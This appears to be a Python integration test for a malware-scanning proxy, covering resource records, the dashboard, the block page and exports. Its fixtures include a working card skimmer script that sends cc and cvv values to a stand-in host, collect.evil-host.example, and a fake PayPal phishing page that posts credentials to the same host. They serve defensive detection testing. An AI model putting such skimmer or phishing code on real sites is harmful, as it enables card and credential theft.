"""A page's resources and one plain voice, in real Chromium through a real mitmdump (block mode).

* A shop page loads two scripts and a frame through the proxy: the page's record lists them with
  their verdicts, sizes and hashes (``GET /api/v1/scans/{id}``: ``resources``), the skimmer's
  record names the page (``loaded_by``), and the dashboard's detail view (in Chromium) shows both
  with links to each record; history search finds a scan by its id.
* A checkout page whose skimmer the gateway already saw is blocked: the block page says the plain
  sentence of engine/data/explain.json (no "looks phishing", no "high:" prefixes), its "Technical
  details" disclosure holds the script URL and sha256, and its scan id links to the dashboard.

Screenshots go to /work/notes/screens/ when that folder exists (else tests/integration/artifacts).
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest
from helpers.dashboard import SCREENS
from helpers.proxy import CHROMIUM, TOKEN, Route, Upstream, launch_chromium, make_self_signed, start_gateway

from malwaresnipper.engine.capture import sha256_text
from malwaresnipper.engine.explain import headline

pytestmark = [pytest.mark.integration, pytest.mark.timeout(300)]


APP_JS = "document.addEventListener('DOMContentLoaded', function () { document.title = 'Shop ready'; });"
SKIM_JS = ("var a=document.forms[0];a.addEventListener('submit',function(){new Image().src="
           "'https://collect.evil-host.example/?d='+btoa(a.cc.value+a.cvv.value)})")
SHOP = b"""<!DOCTYPE html><html><head><title>Shop</title><script src="/js/app.js"></script></head>
<body><h1>Garden tools</h1><form><input name="cc"><input name="cvv"></form>
<iframe src="/frame.html" width="300" height="80" title="reviews"></iframe>
<script src="/js/skim.js"></script></body></html>"""
FRAME = b"<!DOCTYPE html><html><head><title>Reviews</title></head><body><p>Great rakes.</p></body></html>"
CHECKOUT = b"""<html><head><title>PayPal - Log in</title></head><body>
<h1>PayPal</h1><p>Your PayPal account is limited. Log in to confirm your identity.</p>
<form action="https://collect.evil-host.example/gate.php" method="post">
<input type="email" name="email"><input type="password" name="pass">
<input name="cc" autocomplete="cc-number"><input name="cvv"><button>Log in</button></form>
<iframe src="https://frames.evil-host.example/x" width="0" height="0" style="display:none"></iframe>
<script src="/js/skim.js"></script></body></html>"""


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory) -> Any:
    if not CHROMIUM.exists():
        pytest.skip("Debian's chromium is not installed at /usr/bin/chromium")
    from playwright.sync_api import sync_playwright

    tmp = tmp_path_factory.mktemp("resources")
    cert, key = make_self_signed(tmp)
    upstream = Upstream({
        "/shop.html": Route(SHOP, "text/html; charset=utf-8"),
        "/js/app.js": Route(APP_JS.encode(), "application/javascript"),
        "/js/skim.js": Route(SKIM_JS.encode(), "application/javascript"),
        "/frame.html": Route(FRAME, "text/html; charset=utf-8"),
        "/checkout.html": Route(CHECKOUT, "text/html; charset=utf-8"),
    })
    upstream.start(cert, key)
    gw = start_gateway(tmp, cert, options=["malwaresnipper_mode=block", "malwaresnipper_budget_ms=10000"])
    with sync_playwright() as pw:
        proxied = launch_chromium(pw, gw)
        direct = pw.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=["--no-sandbox", "--disable-gpu"])
        try:
            yield proxied, direct, gw, upstream
        finally:
            direct.close()
            proxied.close()
            gw.stop()
            upstream.stop()


def _until(check: Any, timeout: float = 30.0, what: str = "condition") -> Any:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = check()
        if value:
            return value
        time.sleep(0.2)
    raise AssertionError(f"{what} not met within {timeout} s")


def _dashboard(browser: Any, gw: Any) -> tuple[Any, Any, list[str]]:
    context = browser.new_context(viewport={"width": 1440, "height": 1100})
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.goto(f"http://127.0.0.1:{gw.api_port}/")
    page.fill("#token-input", TOKEN)
    page.click("#signin-form button[type=submit]")
    page.wait_for_selector("#conn[data-state=online]", timeout=15_000)
    return context, page, errors


def test_a_pages_scripts_and_frame_are_its_resources_in_the_api_and_the_dashboard(setup: Any) -> None:
    proxied, direct, gw, upstream = setup
    shop_url = upstream.url("/shop.html")
    page = proxied.new_page()
    page.goto(shop_url)
    page.wait_for_load_state("load")
    page.close()
    shop = gw.wait_for_scan(shop_url)
    skim = gw.wait_for_scan(upstream.url("/js/skim.js"))
    app = gw.wait_for_scan(upstream.url("/js/app.js"))
    frame = gw.wait_for_scan(upstream.url("/frame.html"))
    assert skim["threat_level"] == "MALICIOUS" and app["threat_level"] == "BENIGN"

    record = _until(lambda: (r := gw.api(f"/api/v1/scans/{shop['scan_id']}")) and len(r["resources"]) == 3 and r,
                    what="three resources linked to the shop page")
    by_url = {r["url"]: r for r in record["resources"]}
    assert set(by_url) == {upstream.url("/js/app.js"), upstream.url("/js/skim.js"), upstream.url("/frame.html")}
    skim_row = by_url[upstream.url("/js/skim.js")]
    assert (skim_row["kind"], skim_row["scan_id"], skim_row["threat_level"]) == ("script", skim["scan_id"], "MALICIOUS")
    assert skim_row["sha256"] == sha256_text(SKIM_JS) and skim_row["size"] == len(SKIM_JS.encode())
    assert by_url[upstream.url("/frame.html")]["kind"] == "frame"
    assert by_url[upstream.url("/frame.html")]["scan_id"] == frame["scan_id"]
    assert by_url[upstream.url("/js/app.js")]["scan_id"] == app["scan_id"]
    skim_record = gw.api(f"/api/v1/scans/{skim['scan_id']}")
    assert [p["scan_id"] for p in skim_record["loaded_by"]] == [shop["scan_id"]]
    # history search finds a scan by its id
    found = gw.api(f"/api/v1/scans?q={skim['scan_id']}")
    assert [i["scan_id"] for i in found["items"]] == [skim["scan_id"]]

    context, dash, errors = _dashboard(direct, gw)
    try:
        dash.evaluate("id => { location.hash = '#scan=' + id; }", shop["scan_id"])
        dash.wait_for_selector("#detail[data-complete=true]")
        rows = dash.locator("#detail-body table.resources:not(.loaded-by) tbody tr")
        rows.first.wait_for()
        assert rows.count() == 3
        skim_tr = dash.locator(f'#detail-body table.resources tbody tr[data-scan-id="{skim["scan_id"]}"]')
        assert skim_tr.get_attribute("data-level") == "MALICIOUS" and skim_tr.get_attribute("data-kind") == "script"
        assert skim_tr.locator(".badge.level-MALICIOUS").count() == 1
        assert skim_row["sha256"][:16] in skim_tr.inner_text()
        assert skim_tr.locator("a.scan-link").get_attribute("href") == f"#scan={skim['scan_id']}"
        dash.locator("#detail-body h3", has_text="Resources (3)").wait_for()
        SCREENS.mkdir(parents=True, exist_ok=True)
        dash.locator("#detail").screenshot(path=str(SCREENS / "dashboard-detail-resources.png"))
        # the script's own record names the page that loaded it
        skim_tr.locator("a.scan-link").click()
        dash.wait_for_selector(f'#detail[data-scan-id="{skim["scan_id"]}"][data-complete=true]')
        loaded_by = dash.locator(f'#detail-body table.loaded-by tbody tr[data-scan-id="{shop["scan_id"]}"]')
        loaded_by.wait_for()
        assert shop_url in loaded_by.inner_text()
        # a MALICIOUS scan's filled button is the safe one: Block; Allow is secondary
        assert dash.is_visible("#detail-block") and dash.get_attribute("#detail-allow", "class") == "secondary"
        assert dash.get_attribute("#detail-block", "class") in ("", None)
        # the history view finds the scan by its id
        dash.click("#detail-close")
        dash.click("#tabs .tab[data-view=history]")
        dash.fill("#history-form input[name=q]", skim["scan_id"])
        dash.click("#history-form button[type=submit]")
        dash.wait_for_function("() => document.querySelector('#history-summary').textContent.includes('1')")
        assert not errors, errors
    finally:
        context.close()


def test_the_block_page_speaks_plainly_with_technical_details_and_a_dashboard_link(setup: Any) -> None:
    proxied, direct, gw, upstream = setup
    page = proxied.new_page()
    page.goto(upstream.url("/shop.html?warm"))  # the gateway sees the skimmer's text first
    gw.wait_for_scan(upstream.url("/js/skim.js"))
    url = upstream.url("/checkout.html")
    page.goto(url)
    page.wait_for_selector("text=MalwareSnipper blocked this page")
    scan = gw.wait_for_scan(url)
    assert scan["threat_level"] == "MALICIOUS" and scan["blocked"] is True
    lead = page.inner_text("p.lead")
    assert lead == headline(scan["classification"])
    assert "looks like a phishing page" in lead or "payment card" in lead
    body = page.inner_text("main")
    assert "looks phishing" not in body and "looks skimmer" not in body
    why = page.inner_text("main ul")
    assert not any(line.lower().startswith(("critical:", "high:", "medium:", "low:")) for line in why.splitlines())
    assert not page.is_visible("dl.tech")  # closed until asked
    page.click("details.technical summary")
    tech = page.inner_text("dl.tech")
    assert f"{upstream.url('/js/skim.js')} sha256 {sha256_text(SKIM_JS)}" in tech
    assert "collect.evil-host.example" in tech and "frames.evil-host.example" in tech
    # the skimmer was judged on its own before (its text is not in the page's capture): the page's
    # finding names it, with its own scan (where its findings are)
    skim = gw.wait_for_scan(upstream.url("/js/skim.js"))
    assert "engine.malicious_script" in tech and f"scan {skim['scan_id']}" in tech
    link = page.locator("a", has_text=f"Scan {scan['scan_id']}")
    assert link.get_attribute("href") == f"http://127.0.0.1:{gw.api_port}/#scan={scan['scan_id']}"
    SCREENS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENS / "block-page-technical-details.png"), full_page=True)
    page.close()
    # the record it links to is the block's
    record = gw.api(f"/api/v1/scans/{scan['scan_id']}")
    assert record["blocked"] is True and record["verdict"]["classification"] == scan["classification"]


def test_full_export_and_charts(setup: Any) -> None:
    """?full=1 carries every indicator; the dashboard's charts draw bars and MALICIOUS domains red."""
    proxied, direct, gw, upstream = setup
    gw.wait_for_scan(upstream.url("/js/skim.js"))
    from helpers.proxy import Client

    r = Client().request("GET", f"http://127.0.0.1:{gw.api_port}/api/v1/export?format=jsonl&full=1&level=MALICIOUS",
                         headers={"Authorization": f"Bearer {TOKEN}"}, timeout=10)
    rows = [json.loads(line) for line in r.text.splitlines()]
    assert rows and all(len(row["verdict"]["indicators"]) >= 1 for row in rows)
    skim = next(row for row in rows if row["url"].endswith("/js/skim.js"))
    assert {i["id"] for i in skim["verdict"]["indicators"]} >= {"signatures.skimmer_card_exfil",
                                                                  "signatures.skimmer_billing_exfil"}
    bad = Client().request("GET", f"http://127.0.0.1:{gw.api_port}/api/v1/export?full=maybe",
                           headers={"Authorization": f"Bearer {TOKEN}"}, timeout=10)
    assert bad.status_code == 400 and bad.json()["error"]["code"] == "invalid_parameter"

    context, dash, errors = _dashboard(direct, gw)
    try:
        dash.wait_for_function("() => window.Chart && Chart.getChart('chart-domains')?.data.labels.length > 0")
        kinds = dash.evaluate("() => [Chart.getChart('chart-time').config.type,"
                              " Chart.getChart('chart-domains').data.datasets[0].backgroundColor]")
        assert kinds[0] == "bar"
        assert "#ef4e4e" in kinds[1]  # 127.0.0.1 has MALICIOUS scans: the MALICIOUS colour
        SCREENS.mkdir(parents=True, exist_ok=True)
        dash.locator(".charts").screenshot(path=str(SCREENS / "dashboard-charts.png"))
        # the history view's export offers the full verdicts
        dash.click("#tabs .tab[data-view=history]")
        dash.check("#export-full")
        with dash.expect_download() as download:
            dash.click("#export-jsonl")
        lines = Path(download.value.path()).read_text(encoding="utf-8").splitlines()
        exported = [json.loads(line) for line in lines]
        assert exported and all("verdict" in row for row in exported)
        assert any(len((row["verdict"] or {}).get("indicators", [])) >= 2 for row in exported)
        assert not errors, errors
    finally:
        context.close()
